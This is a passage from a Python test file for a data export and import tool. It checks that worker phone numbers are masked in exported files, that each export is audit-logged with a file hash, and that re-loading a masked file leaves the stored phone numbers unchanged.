        assert got.keys() == stored.keys()
        for code, phone in stored.items():
            if phone is None:
                assert got[code] is None
            elif code in full:
                assert got[code] == phone
            else:  # as the dashboard shows it: 3 digits, 4 stars, 4 digits
                assert got[code] == f"{phone[:3]}****{phone[-4:]}"
        row = last_export_audit(cli_source)
        expected = "masked_but_own" if full else "masked"
        assert (row.login, row.detail["phones"]) == (user or os_user(), expected)
        assert row.detail["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_masked_workers_file_does_not_overwrite_stored_phones(
    source: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "workers.csv"
    export_kind(source, "workers", path, phones=PhoneView())
    before = _stored_phones(source)
    load_file(source, "workers", path, Options())
    assert _stored_phones(source) == before
